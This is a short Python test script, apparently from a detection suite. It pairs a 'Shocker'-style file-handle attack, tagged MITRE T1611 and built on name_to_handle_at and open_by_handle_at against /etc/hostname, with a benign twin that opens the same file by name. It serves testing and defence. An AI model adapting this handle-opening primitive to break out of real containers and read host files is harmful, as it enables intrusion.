#!/usr/bin/python3
# A file is opened by its handle: whoever may do that reads any file of a file system, whatever he sees of it ("Shocker").
#: title: open_by_handle_at
#: technique: T1611
#: needs: control
#: twin: a file is opened by its name
import ctypes
import os
import struct

from lib import call, did, main


def attack():
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount = ctypes.c_int()
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    call("name_to_handle_at", -100, b"/etc/hostname", handle, ctypes.byref(mount), 0)
    root = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY)
    os.close(call("open_by_handle_at", root, handle, os.O_RDONLY))
    os.close(here)
    did("/etc/hostname")


def twin():
    with open("/etc/hostname") as file:
        file.read()
    did("/etc/hostname")


main(attack, twin)
